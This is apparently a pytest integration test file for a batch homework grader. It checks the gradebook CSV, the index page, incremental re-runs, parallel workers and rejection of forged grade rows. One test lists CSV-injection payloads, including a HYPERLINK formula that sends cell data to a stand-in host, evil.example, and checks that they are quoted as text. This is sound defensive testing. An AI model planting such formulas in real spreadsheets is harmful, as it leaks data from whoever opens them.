"""A whole class: one output folder per submission, a gradebook and an index page, one bad
submission costing only its row, unchanged submissions skipped on a re-run, JOBS workers."""
from __future__ import annotations

import csv
import dataclasses
import shutil
from pathlib import Path

import pytest

from grader import __main__ as cli
from grader.batch import Row, grade_class, is_class_folder, submission_entries, unique_names, write_gradebook
from grader.grade import GradeOptions, grade_submission

pytestmark = pytest.mark.integration  # the tier `make test-fast` leaves out (tests/conftest.py)

REPO = Path(__file__).resolve().parents[2]
ALTERNATIVE = Path(__file__).resolve().parent / "fixtures" / "alternative" / "solution.py"
NONE = ["--training", "none"]


def reference_copy(folder: Path) -> Path:
    folder.mkdir(parents=True)
    for name in ("attention.py", "blocks.py", "vit.py"):
        shutil.copy(REPO / "reference" / name, folder / name)
    return folder


@pytest.fixture
def klass(tmp_path: Path) -> Path:
    """Five students: a folder, one .py written differently, a zip that is not one, the unfilled
    template, and a name a spreadsheet would run as a formula."""
    root = tmp_path / "class"
    reference_copy(root / "alice")
    root.joinpath("bob.py").write_text(ALTERNATIVE.read_text())
    root.joinpath("carol.zip").write_bytes(b"not a zip at all" * 10)
    shutil.copytree(REPO / "student_template", root / "dave", ignore=shutil.ignore_patterns("*.ipynb", "__pycache__"))
    reference_copy(root / "=1+1")
    return root


def gradebook(out: Path) -> dict[str, dict[str, str]]:
    with open(out / "gradebook.csv", newline="") as f:
        return {row["student"]: row for row in csv.DictReader(f)}


def test_a_class_gets_a_gradebook_an_index_and_a_folder_per_student(klass: Path, tmp_path: Path, capsys) -> None:
    out = tmp_path / "out"
    assert is_class_folder(klass) and not is_class_folder(REPO / "reference")
    assert cli.main([str(klass), "--out", str(out), *NONE]) == 2  # carol could not be read: said by the exit status
    book = gradebook(out)
    assert sorted(book) == ["'=1+1", "alice", "bob", "carol", "dave"]  # the formula is quoted, not run
    assert book["alice"]["total"] == book["alice"]["max"] == book["bob"]["total"] == book["'=1+1"]["total"]
    assert float(book["alice"]["attention"]) == 4 and float(book["dave"]["total"]) == 0
    assert book["carol"]["status"] == "unreadable" and book["alice"]["status"] == "ok"
    for name in ("alice", "bob", "carol", "dave", "=1+1"):
        assert (out / name / "results.json").is_file()
    index = (out / "index.html").read_text()
    assert 'href="alice/report.html"' in index and "attention:function_mask" in index and "3 / 4" in index
    assert "unreadable: 1" in index
    assert "gradebook.csv" in capsys.readouterr().out


def test_gradebook_text_cells_a_spreadsheet_would_run_are_quoted_and_numbers_stay_numbers(tmp_path: Path) -> None:
    """CSV injection: a student names their submission as a formula, or hides one behind a tab or
    a CR that a spreadsheet strips; every text cell starting with = + - @ tab CR is shown as text."""
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"see grades")', "\t=1+1", "\r=1+1", "+1+1", "-1+1", "@SUM(A1:A9)"]
    rows = [Row(name, "ok", 22.0, 22.0, {"attention": 4.0}) for name in hostile]
    rows.append(Row("alice", "ok", -1.0, 22.0, {"attention": -0.5}, mnist_accuracy=0.951, seconds=3.25))
    write_gradebook(rows, tmp_path)
    with open(tmp_path / "gradebook.csv", newline="") as f:
        header, *cells = list(csv.reader(f))
    assert [row[0] for row in cells] == ["'" + name for name in hostile] + ["alice"]
    alice = dict(zip(header, cells[-1]))
    assert (alice["total"], alice["attention"], alice["mnist_accuracy"], alice["seconds"]) == ("-1", "-0.5", "95.10", "3.25")
    assert {row[header.index("status")] for row in cells} == {"ok"}


def test_a_rerun_grades_only_what_changed_and_resumes_a_batch(klass: Path, tmp_path: Path, capsys) -> None:
    out = tmp_path / "out"
    entries = submission_entries(klass)
    options = GradeOptions(training="none").resolved()
    grade_class(entries[:2], out, options, 20.0)  # a batch stopped halfway
    capsys.readouterr()
    rows = grade_class(entries, out, options, 20.0)
    assert "grading 3 of 5 submissions" in capsys.readouterr().err
    assert [r.reused for r in rows] == [True, True, False, False, False]
    (klass / "bob.py").write_text((klass / "bob.py").read_text() + "\n# changed\n")
    rows = grade_class(entries, out, options, 20.0)
    assert [r.student for r in rows if not r.reused] == ["bob"]
    rows = grade_class(entries, out, options, 20.0, force=True)
    assert not any(r.reused for r in rows)


def test_two_workers_grade_as_one_does(klass: Path, tmp_path: Path) -> None:
    options = GradeOptions(training="none").resolved()
    one = grade_class(submission_entries(klass), tmp_path / "one", options, 20.0, jobs=1)
    two = grade_class(submission_entries(klass), tmp_path / "two", options, 20.0, jobs=2)
    assert [(r.student, r.score, r.status, r.checks) for r in one] == [(r.student, r.score, r.status, r.checks) for r in two]


def test_submissions_with_the_same_name_get_their_own_folders(tmp_path: Path) -> None:
    a, b = reference_copy(tmp_path / "a" / "hw"), reference_copy(tmp_path / "b" / "hw")
    assert unique_names([a, b]) == ["hw", "hw-2"]
    assert cli.main([str(a), str(b), "--out", str(tmp_path / "out"), *NONE]) == 0
    assert sorted(gradebook(tmp_path / "out")) == ["hw", "hw-2"]


def test_a_student_folder_with_data_is_one_submission(tmp_path: Path) -> None:
    folder = tmp_path / "homework"
    reference_copy(folder / "student_template")
    (folder / "data").mkdir()
    (folder / "data" / "notes.txt").write_text("mnist goes here")
    assert not is_class_folder(folder)


@pytest.mark.parametrize("body,status", [("import os\n    os._exit(3)", "crashed"), ("import time\n    time.sleep(60)", "timeout")])
def test_the_status_says_when_the_code_crashed_or_hung(tmp_path: Path, body: str, status: str) -> None:
    folder = reference_copy(tmp_path / "student")
    source = (folder / "attention.py").read_text()
    first = "    scores = q @ k.transpose(-2, -1)"  # the attention function's first line
    (folder / "attention.py").write_text(source.replace(first, f"    {body}\n{first}", 1))
    graded = grade_submission(folder, tmp_path / "work", GradeOptions(training="none", call_seconds=2.0))
    assert graded.status == status


def test_workers_sharing_a_gpu_cap_their_memory_and_jobs_do_not_change_the_key(tmp_path: Path) -> None:
    """Measured only where a GPU is lent; here: the cap reaches the child's configuration, the
    child applies it to every device, and a re-run with other JOBS is still a re-run."""
    from types import SimpleNamespace

    from grader.batch import grade_key, kit_version
    from grader.sandbox import Limits, Sandbox
    from grader.submission import stage_submission
    from grader.worker import share_gpu

    staged = stage_submission(reference_copy(tmp_path / "s"), tmp_path / "w")
    config = Sandbox(staged, Limits(gpu=True, memory_bytes=None, gpu_memory_fraction=0.45))._config(tmp_path / "fault")
    assert config["gpu_memory_fraction"] == 0.45
    assert Sandbox(staged, Limits(gpu_memory_fraction=0.45))._config(tmp_path / "fault")["gpu_memory_fraction"] is None
    calls = []
    cuda = SimpleNamespace(is_available=lambda: True, device_count=lambda: 2,
                           set_per_process_memory_fraction=lambda f, d: calls.append((f, d)))
    share_gpu(SimpleNamespace(cuda=cuda), 0.45)
    assert calls == [(0.45, 0), (0.45, 1)]
    kit, options = kit_version(), GradeOptions(training="none")
    assert grade_key(tmp_path / "s", options, kit) == grade_key(tmp_path / "s", dataclasses.replace(options, threads=1, gpu_share=0.45), kit)


def test_a_planted_or_edited_row_is_not_reused(klass: Path, tmp_path: Path, monkeypatch) -> None:
    """What a student's code (or anyone) writes into an output folder cannot pass for the grader's row."""
    import json

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    out, options = tmp_path / "out", GradeOptions(training="none").resolved()
    entries = [p for p in submission_entries(klass) if p.name == "dave"]  # the unfilled template: 0 points
    grade_class(entries, out, options, 20.0)
    saved = json.loads((out / "dave" / "grade.json").read_text())
    saved["row"]["score"] = 20.0  # full marks, as a forger would like
    (out / "dave" / "grade.json").write_text(json.dumps(saved))
    rows = grade_class(entries, out, options, 20.0)
    assert not rows[0].reused and rows[0].score == 0
    assert (tmp_path / "cache" / "vitkit" / "batch.key").stat().st_mode & 0o077 == 0
